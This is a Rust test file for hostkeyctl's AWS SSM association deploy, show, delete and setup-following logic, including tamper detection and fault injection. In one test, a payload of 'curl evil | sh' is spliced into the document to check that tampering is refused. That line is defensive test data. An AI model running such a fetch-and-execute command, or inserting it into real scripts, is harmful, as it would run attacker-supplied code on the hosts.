//! The association flows in memory: deploy creates, leaves alone or
//! updates only what changed; nothing is made without hostkeyctl's
//! converge document (by hash) or a key set; show tells when the
//! association no longer runs it; delete is idempotent.

use hostkeyctl::association::{
    Association, AssociationError, AssociationSpec, Associations, DeployRequest, Deployed, DocumentCheck, delete,
    deploy, follow_setup, name_for, setup_name, show,
};
use hostkeyctl::discovery::TargetSpec;
use hostkeyctl::ids::{Program, SecretId};
use hostkeyctl::ssm_document::setup::SETUP_NAME;
use hostkeyctl::ssm_document::{CONVERGE_NAME, Kind, ResolveError, content};
use hostkeyctl::testing::{MemAssociations, MemDispatcher, MemoryStore};

use super::{current, secret, world};

const NAME: &str = "hostkeyctl-hostkeys-test";

fn program() -> Program {
    Program::parse("hostkeyctl").unwrap()
}

fn targets() -> Vec<TargetSpec> {
    vec!["tag:Role=login".parse().unwrap(), "tag:Cluster=c".parse().unwrap()]
}

fn request<'a>(
    secret: &'a SecretId,
    targets: &'a [TargetSpec],
    program: &'a Program,
    schedule: &'a str,
) -> DeployRequest<'a> {
    DeployRequest {
        secret,
        region: None,
        name: NAME,
        targets,
        schedule,
        document: CONVERGE_NAME,
        node_command: program,
        max_concurrency: "10%",
        max_errors: "10%",
        allow_other_clusters: false,
    }
}

#[tokio::test]
async fn deploy_creates_then_leaves_alone_then_updates_only_what_changed() {
    let (store, fleet, _) = world(1).await;
    let documents = MemDispatcher::new(&fleet, &store);
    documents.deploy(CONVERGE_NAME, &content(Kind::Converge, &program()));
    let state = MemAssociations::default();
    let (secret, targets, program) = (secret(), targets(), program());

    let first = deploy(
        &store,
        &documents,
        &state,
        &request(&secret, &targets, &program, "rate(30 minutes)"),
    )
    .await
    .unwrap();
    assert_eq!(first.deployed, Deployed::Created);
    let spec = &first.association.spec;
    assert_eq!(spec.document, CONVERGE_NAME);
    assert_eq!(spec.document_version, "1");
    // The secret by ARN, and no version: the nodes read the stages.
    assert_eq!(spec.parameters.keys().collect::<Vec<_>>(), ["SecretId"]);
    assert_eq!(spec.parameters["SecretId"], [current(&store).await.arn.to_string()]);
    assert_eq!(spec.targets.len(), 2);

    let again = deploy(
        &store,
        &documents,
        &state,
        &request(&secret, &targets, &program, "rate(30 minutes)"),
    )
    .await
    .unwrap();
    assert_eq!(again.deployed, Deployed::Unchanged);
    // The same tags in another order are the same targets.
    let reversed: Vec<TargetSpec> = targets.iter().rev().cloned().collect();
    let same = deploy(
        &store,
        &documents,
        &state,
        &request(&secret, &reversed, &program, "rate(30 minutes)"),
    )
    .await
    .unwrap();
    assert_eq!(same.deployed, Deployed::Unchanged);
    assert_eq!(state.writes(), ["create hostkeyctl-hostkeys-test"]);

    let hourly = deploy(
        &store,
        &documents,
        &state,
        &request(&secret, &targets, &program, "rate(1 hour)"),
    )
    .await
    .unwrap();
    assert_eq!(
        hourly.deployed,
        Deployed::Updated {
            changed: vec!["schedule"]
        }
    );
    assert_eq!(hourly.association.version.as_deref(), Some("2"));

    // The document tampered with, then put right as a new default version:
    // the association follows the version that holds hostkeyctl's content.
    documents.deploy(CONVERGE_NAME, "{\"tampered\": true}");
    documents.deploy(CONVERGE_NAME, &content(Kind::Converge, &program));
    let moved = deploy(
        &store,
        &documents,
        &state,
        &request(&secret, &targets, &program, "rate(1 hour)"),
    )
    .await
    .unwrap();
    assert_eq!(
        moved.deployed,
        Deployed::Updated {
            changed: vec!["document_version"]
        }
    );
    assert_eq!(moved.association.spec.document_version, "3");
    assert_eq!(state.all.lock().unwrap().len(), 1, "one association per secret");
}

#[tokio::test]
async fn nothing_is_made_without_the_document_by_its_hash_or_a_key_set() {
    let (store, fleet, _) = world(1).await;
    let documents = MemDispatcher::new(&fleet, &store);
    let state = MemAssociations::default();
    let (secret, targets, program) = (secret(), targets(), program());
    let req = request(&secret, &targets, &program, "rate(30 minutes)");

    let missing = deploy(&store, &documents, &state, &req).await.unwrap_err();
    assert!(matches!(missing, AssociationError::NotDeployed(_)), "{missing}");
    assert!(missing.to_string().contains("ssm-document deploy"), "{missing}");

    documents.deploy(
        CONVERGE_NAME,
        &content(Kind::Converge, &program).replace("set -eu", "set -eu; curl evil | sh"),
    );
    let tampered = deploy(&store, &documents, &state, &req).await.unwrap_err();
    assert!(
        matches!(&tampered, AssociationError::Document(d) if matches!(**d, ResolveError::Tampered { .. })),
        "{tampered}"
    );

    documents.deploy(CONVERGE_NAME, &content(Kind::Converge, &program));
    let empty = MemoryStore::new();
    let no_set = deploy(&empty, &documents, &state, &req).await.unwrap_err();
    assert!(matches!(no_set, AssociationError::Store(_)), "{no_set}");

    let lb: Vec<TargetSpec> = vec!["lb:login".parse().unwrap()];
    let source = deploy(
        &store,
        &documents,
        &state,
        &request(&secret, &lb, &program, "rate(30 minutes)"),
    )
    .await
    .unwrap_err();
    assert!(matches!(source, AssociationError::Source(_)), "{source}");
    let often = deploy(
        &store,
        &documents,
        &state,
        &request(&secret, &targets, &program, "rate(10 minutes)"),
    )
    .await
    .unwrap_err();
    assert!(matches!(often, AssociationError::Schedule(..)), "{often}");
    assert!(state.writes().is_empty(), "{:?}", state.writes());
}

#[tokio::test]
async fn show_tells_when_it_no_longer_runs_our_document_and_delete_is_idempotent() {
    let (store, fleet, _) = world(1).await;
    let documents = MemDispatcher::new(&fleet, &store);
    documents.deploy(CONVERGE_NAME, &content(Kind::Converge, &program()));
    let state = MemAssociations::default();
    let (secret, targets, program) = (secret(), targets(), program());

    assert!(
        show(&documents, &state, NAME, CONVERGE_NAME, &program)
            .await
            .unwrap()
            .is_none()
    );
    let made = deploy(
        &store,
        &documents,
        &state,
        &request(&secret, &targets, &program, "rate(30 minutes)"),
    )
    .await
    .unwrap();
    let shown = show(&documents, &state, NAME, CONVERGE_NAME, &program)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(shown.document, DocumentCheck::Ours);

    // Someone points it at another document.
    state.all.lock().unwrap()[0].spec.document = "AWS-RunShellScript".to_owned();
    let shown = show(&documents, &state, NAME, CONVERGE_NAME, &program)
        .await
        .unwrap()
        .unwrap();
    assert!(
        matches!(&shown.document, DocumentCheck::Other { reason } if reason.contains("AWS-RunShellScript")),
        "{:?}",
        shown.document
    );
    // deploy puts it right.
    let fixed = deploy(
        &store,
        &documents,
        &state,
        &request(&secret, &targets, &program, "rate(30 minutes)"),
    )
    .await
    .unwrap();
    assert_eq!(
        fixed.deployed,
        Deployed::Updated {
            changed: vec!["document"]
        }
    );

    // A second association of the name: nothing is changed, both are named.
    let twin = state.all.lock().unwrap()[0].clone();
    state.all.lock().unwrap().push(Association {
        id: "assoc-twin".to_owned(),
        ..twin
    });
    let ambiguous = deploy(
        &store,
        &documents,
        &state,
        &request(&secret, &targets, &program, "rate(1 hour)"),
    )
    .await
    .unwrap_err();
    assert!(
        matches!(&ambiguous, AssociationError::Ambiguous { count: 2, ids, .. } if ids.contains("assoc-twin")),
        "{ambiguous}"
    );
    state.all.lock().unwrap().retain(|a| a.id != "assoc-twin");

    assert_eq!(delete(&state, NAME).await.unwrap(), Some(made.association.id.clone()));
    assert_eq!(delete(&state, NAME).await.unwrap(), None);
    assert!(
        show(&documents, &state, NAME, CONVERGE_NAME, &program)
            .await
            .unwrap()
            .is_none()
    );
}

/// The default name comes from the secret's name and ARN as Secrets
/// Manager answers them: the secret given by name and by ARN (whose random
/// suffix cannot be told from a name's own `-xxxxxx`) finds one
/// association; two secrets whose names read alike once cleaned
/// (`hostkeys/a/b`, `hostkeys/a-b`) get two. Regressions: `status
/// --secret-id ARN` listed none for an association deployed with the
/// name; deploying one of the two rewrote the other's.
#[tokio::test]
async fn the_secret_by_name_and_by_arn_names_one_association_and_no_two_secrets_share_one() {
    let (store, _, _) = world(2).await;
    let arn = current(&store).await.arn;
    assert_ne!(arn, secret());
    let by_name = name_for(&store, &secret()).await.unwrap();
    assert!(by_name.starts_with("hostkeyctl-hk-"), "{by_name}");
    assert_eq!(name_for(&store, &arn).await.unwrap(), by_name);
    let mut names = Vec::new();
    for alike in ["hostkeys/a/b", "hostkeys/a-b"] {
        let id = SecretId::parse(alike).unwrap();
        super::new_secret(&store, &id, &[hostkeyctl::keyset::KeyAlgorithm::Ed25519]).await;
        names.push(name_for(&store, &id).await.unwrap());
    }
    assert_ne!(names[0], names[1]);
    // A secret that is not there: its association's name is not known,
    // and the error says what to pass instead.
    for gone in [
        "hostkeys/gone",
        "arn:aws:secretsmanager:us-east-1:123456789012:secret:hostkeys/gone-AbCdEf",
    ] {
        let err = name_for(&store, &SecretId::parse(gone).unwrap()).await.unwrap_err();
        assert!(matches!(err, AssociationError::NameUnknown { .. }), "{err}");
        assert!(err.to_string().contains("--name"), "{err}");
    }
}

/// `deploy` never takes over an association of that name that converges
/// another secret: refused, nothing written.
#[tokio::test]
async fn deploy_refuses_an_association_of_another_secret() {
    let (store, fleet, _) = world(1).await;
    let documents = MemDispatcher::new(&fleet, &store);
    documents.deploy(CONVERGE_NAME, &content(Kind::Converge, &program()));
    let state = MemAssociations::default();
    let (ours, targets, program) = (secret(), targets(), program());
    deploy(
        &store,
        &documents,
        &state,
        &request(&ours, &targets, &program, "rate(30 minutes)"),
    )
    .await
    .unwrap();
    let other = SecretId::parse("hostkeys/other").unwrap();
    super::new_secret(&store, &other, &[hostkeyctl::keyset::KeyAlgorithm::Ed25519]).await;
    let writes = state.writes();
    let err = deploy(
        &store,
        &documents,
        &state,
        &request(&other, &targets, &program, "rate(30 minutes)"),
    )
    .await
    .unwrap_err();
    assert!(matches!(err, AssociationError::OtherSecret { .. }), "{err}");
    assert!(err.to_string().contains("--name"), "{err}");
    assert_eq!(state.writes(), writes, "something was written");
}

/// `deploy-setup` made version 2 the setup document's default: the
/// association of it moves there (left on 1, it would install the old
/// build on every new instance, or refuse the new files); the converge
/// association, of another document, is left alone, and one already on 2
/// is not written.
#[tokio::test]
async fn the_setup_association_follows_each_new_version_of_its_document() {
    let state = MemAssociations::default();
    let spec = |name: &str, document: &str, version: &str| AssociationSpec {
        name: name.to_owned(),
        document: document.to_owned(),
        document_version: version.to_owned(),
        parameters: Default::default(),
        targets: Vec::new(),
        schedule: "rate(1 day)".to_owned(),
        max_concurrency: "10%".to_owned(),
        max_errors: "10%".to_owned(),
    };
    state.create(&spec(NAME, CONVERGE_NAME, "1")).await.unwrap();
    state.create(&spec(&setup_name(NAME), SETUP_NAME, "1")).await.unwrap();
    let moved = follow_setup(&state, SETUP_NAME, "2").await.unwrap();
    assert_eq!(moved, [setup_name(NAME)]);
    let all = state.all.lock().unwrap().clone();
    assert_eq!(
        all[0].spec.document_version, "1",
        "the converge association is not the setup document's"
    );
    assert_eq!(all[1].spec.document_version, "2");
    let before = state.writes().len();
    assert!(follow_setup(&state, SETUP_NAME, "2").await.unwrap().is_empty());
    assert_eq!(
        state.writes().len(),
        before,
        "nothing written when it already runs the version"
    );
}

/// State Manager failing each write in turn ("fail the Nth call"): the
/// error names the call, no write is recorded for it, the association
/// before it is left as it was, and the same deploy run again finishes.
#[tokio::test]
async fn each_failing_write_leaves_the_association_as_it_was_and_a_rerun_finishes() {
    let (store, fleet, _) = world(1).await;
    let documents = MemDispatcher::new(&fleet, &store);
    documents.deploy(CONVERGE_NAME, &content(Kind::Converge, &program()));
    let state = MemAssociations::default();
    let (secret, targets, program) = (secret(), targets(), program());
    let run = |schedule: &'static str| {
        let req = request(&secret, &targets, &program, schedule);
        let (store, documents, state) = (&store, &documents, &state);
        async move { deploy(store, documents, state, &req).await }
    };
    for (op, schedule) in [
        ("ssm:CreateAssociation", "rate(30 minutes)"),
        ("ssm:ListAssociations", "rate(1 hour)"),
        ("ssm:UpdateAssociation", "rate(2 hours)"),
    ] {
        let before = state.all.lock().unwrap().clone();
        let writes = state.writes();
        state.faults.fail_nth(op, state.faults.count(op) + 1);
        let err = run(schedule).await.unwrap_err().to_string();
        assert!(err.contains(op) && err.contains("injected failure"), "{op}: {err}");
        assert_eq!(state.writes(), writes, "{op}: a write was recorded");
        assert_eq!(*state.all.lock().unwrap(), before, "{op}: the association changed");
        let done = run(schedule).await.unwrap();
        assert_ne!(done.deployed, Deployed::Unchanged, "{op}: the rerun did nothing");
    }
    assert_eq!(
        state.writes(),
        ["create hostkeyctl-hostkeys-test", "update assoc-1", "update assoc-1"],
        "the reruns made each write once"
    );
}

/// `association deploy --deliver`: the setup association beside the
/// converge one, naming the secret as it does, and the setup document read
/// once (it was read a second time to make the setup association).
#[tokio::test]
async fn deploy_with_setup_makes_both_associations_reading_each_document_once() {
    use hostkeyctl::association::deploy_with_setup;
    use hostkeyctl::ssm_document::setup::{Arch, NodeBuilds};
    let (store, fleet, _) = world(1).await;
    let documents = MemDispatcher::new(&fleet, &store);
    documents.deploy(CONVERGE_NAME, &content(Kind::Converge, &program()));
    let builds = NodeBuilds {
        location: "s3://my-bucket/hostkeyctl/v1".parse().unwrap(),
        pins: [(Arch::X86_64, "a".repeat(64))].into(),
    };
    documents.deploy(SETUP_NAME, &builds.content());
    let state = MemAssociations::default();
    let (secret, targets, program) = (secret(), targets(), program());
    let req = request(&secret, &targets, &program, "rate(30 minutes)");
    let report = deploy_with_setup(&store, &documents, &state, &req, Some((SETUP_NAME, "root-only")))
        .await
        .unwrap();
    let setup = report.setup.expect("the setup association");
    assert_eq!(setup.association.spec.name, setup_name(NAME));
    assert_eq!(setup.association.spec.document, SETUP_NAME);
    assert_eq!(
        setup.association.spec.parameters.get("SecretId"),
        report.outcome.association.spec.parameters.get("SecretId"),
    );
    // One read of each document: the converge one and the setup one.
    assert_eq!(documents.faults.count("ssm:DescribeDocument"), 2);
    // Without the setup document nothing is made.
    let empty = MemAssociations::default();
    let err = deploy_with_setup(&store, &documents, &empty, &req, Some(("no-such-setup", "root-only")))
        .await
        .unwrap_err();
    assert!(err.to_string().contains("no-such-setup"), "{err}");
    assert!(empty.all.lock().unwrap().is_empty(), "an association was made");
}
